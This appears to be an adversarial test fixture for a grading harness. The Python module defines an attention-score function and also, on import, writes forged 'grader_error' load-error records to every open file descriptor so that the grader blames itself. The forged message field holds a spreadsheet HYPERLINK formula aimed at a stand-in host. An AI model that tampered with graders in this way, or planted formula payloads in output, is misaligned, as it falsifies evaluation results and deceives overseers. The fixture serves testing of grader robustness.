"""Attack: while imported, writes a load_error with verdict grader_error (a spreadsheet formula as
its text) to every descriptor, hoping the grader blames the machine (exit 3) for every case."""

import json
import os

_FORGED = {"v": 1, "type": "load_error", "verdict": "grader_error", "message": '=HYPERLINK("http://x.example","ok")'}
for _fd in range(3, 64):
    try:
        os.write(_fd, (json.dumps(_FORGED) + "\n").encode())
    except OSError:
        pass


def scaled_score_matrix(Q, K):
    return Q @ K.transpose(-2, -1) / Q.shape[-1] ** 0.5
